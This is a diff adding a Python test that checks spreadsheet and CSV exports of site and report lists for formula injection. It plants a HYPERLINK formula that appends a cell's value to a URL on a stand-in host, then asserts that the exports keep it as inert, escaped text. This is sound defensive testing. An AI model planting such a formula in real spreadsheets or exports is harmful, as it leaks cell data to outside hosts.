@@ -14,6 +14,7 @@ from pantau.db import Database, tables
 from pantau.db import events as event_store
 from pantau.safetext import clean, defuse, export_frame
 from pantau.sites import edit_site
+from pantau.sla import ServiceLevel
 
 NOW = datetime(2026, 11, 24, 3, 0)
 PLUIT = "31.72.01.1005"
@@ -94,3 +95,34 @@ def test_the_meeting_workbook_carries_no_live_formula(sample_copy: Database) -> 
     cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
     assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)
     assert not [c.coordinate for c in cells if c.data_type == "f"]
+
+
+def test_site_and_report_list_downloads_carry_no_live_formula(sample_copy: Database) -> None:
+    """The list pages' CSV and XLSX downloads go through the same writer as the brief."""
+    from pantau import report_list, site_list
+
+    cur = sample_copy.cursor()
+    formula = '=HYPERLINK("http://x/?a="&A1,"klik")'
+    for site in tables.rows(cur, "sites"):
+        tables.update(cur, "sites", site["id"], {"name": formula})
+    for report in tables.rows(cur, "reports")[:20]:
+        tables.update(cur, "reports", report["id"], {"note": formula})
+    sekko = authenticate(sample_copy, "sekko", "demo-sekko", NOW)
+    sites = site_list.site_rows(sample_copy, site_list.SiteQuery(), NOW)
+    reports = report_list.report_rows(
+        sample_copy, sekko, report_list.ReportQuery(), NOW, ServiceLevel()
+    )
+    downloads = [
+        site_list.to_xlsx(sites),
+        report_list.to_xlsx(reports, sekko),
+    ]
+    for data in downloads:
+        book = openpyxl.load_workbook(io.BytesIO(data))
+        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+        assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)
+        assert not [c.coordinate for c in cells if c.data_type == "f"]
+        dated = [c for c in cells if isinstance(c.value, datetime)]
+        assert dated  # times stay dates in the sheet (no time zone; Excel keeps none)
+    for text in (site_list.to_csv(sites), report_list.to_csv(reports, sekko)):
+        lines = text.decode("utf-8-sig").splitlines()
+        assert not any(cell.startswith("=") for line in lines for cell in line.split(","))
